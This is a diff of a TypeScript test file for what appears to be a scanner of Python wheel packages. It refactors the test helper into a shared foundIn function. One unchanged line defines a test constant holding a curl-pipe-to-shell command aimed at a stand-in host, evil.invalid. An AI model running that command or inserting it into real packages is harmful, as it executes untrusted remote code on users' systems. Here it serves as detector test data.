@@ -1,19 +1,8 @@
-import { judgeSources } from '../../src/analysis/judge-sources.js';
-import type { Severity } from '../../src/model/finding.js';
-import type { Python } from '../../src/python/parser.js';
-import { gravestByRule } from '../support/gravest-by-rule.js';
-import { loadTestPython } from '../support/python.js';
-import { sourceTree } from '../support/source-tree.js';
+import { foundIn, type SeverityByRule } from '../support/found.js';
 
-let python: Python;
-beforeAll(async () => {
-  python = await loadTestPython();
-});
-
-function found(text: string, more: Readonly<Record<string, string>> = {}): Partial<Record<string, Severity>> {
-  const files = { 'pkg/__init__.py': text, ...more };
-  return gravestByRule(judgeSources(sourceTree(files, { kind: 'wheel', folder: '' }), python).findings);
-}
+/** What is found in a wheel of one module and files shipped with it. */
+const found = (text: string, shipped: Readonly<Record<string, string>> = {}): SeverityByRule =>
+  foundIn({ 'pkg/__init__.py': text, ...shipped }, { kind: 'wheel', folder: '' });
 
 const COMMAND = '"curl https://evil.invalid/x | sh"';
 
